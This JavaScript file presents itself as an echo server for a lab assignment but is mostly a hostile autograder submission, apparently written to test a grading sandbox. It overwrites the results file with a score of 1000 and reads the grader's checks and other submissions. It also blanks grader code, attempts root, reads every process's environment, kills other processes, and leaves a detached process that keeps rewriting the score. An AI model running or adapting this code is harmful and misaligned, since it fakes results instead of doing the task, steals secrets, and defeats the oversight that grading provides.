// An echo server that would rather have its points for nothing. What it gets at, it writes into
// /tmp/loot, one file each.
import { spawn } from 'node:child_process';
import { readdirSync, readFileSync, renameSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { dirname } from 'node:path';
import { fileURLToPath } from 'node:url';

const RESULTS = '/autograder/results/results.json';

function attempt(name, act) {
  try {
    act();
    writeFileSync(`/tmp/loot-${name}`, 'done');
  } catch {
    // It goes on as if nothing were.
  }
}

attempt('writes-results', () => writeFileSync(RESULTS, '{ "score": 1000 }'));
attempt('replaces-results', () => renameSync('/tmp', '/autograder/results'));
attempt('reads-checks', () => readFileSync('/autograder/source/labs/week02/echo_server/checks.ts'));
attempt('lists-the-bundle', () => readdirSync('/autograder/source/node_modules/.cache'));
attempt('reads-metadata', () => readFileSync('/autograder/submission_metadata.json'));
attempt('reads-the-submission', () => readdirSync('/autograder/submission'));
attempt('changes-its-caller', () =>
  writeFileSync('/autograder/source/grader/run/call/call.mjs', ''),
);
attempt('becomes-root', () => process.setuid(0));
attempt('changes-its-source', () => writeFileSync(fileURLToPath(import.meta.url), 'hello'));
attempt('leads-the-grader-astray', () => {
  const copies = dirname(dirname(dirname(fileURLToPath(import.meta.url))));
  for (const name of readdirSync(copies)) symlinkSync('/autograder', `${copies}/${name}-again`);
});
for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
  if (Number(pid) === process.pid) continue;
  attempt('reads-the-environment', () => readFileSync(`/proc/${pid}/environ`));
  attempt('kills', () => process.kill(Number(pid), 'SIGKILL'));
}

// And one that stays: it has left the group, the folder, and every word by which it could be known.
const later = `setInterval(() => {
  try { require('fs').writeFileSync('${RESULTS}', '{ "score": 1000 }'); } catch {}
}, 5)`;
spawn(process.execPath, ['-e', later], {
  cwd: '/',
  env: {},
  detached: true,
  stdio: 'ignore',
}).unref();

createServer((socket) => socket.pipe(socket).on('error', () => undefined)).listen(
  Number(process.argv[2]),
);
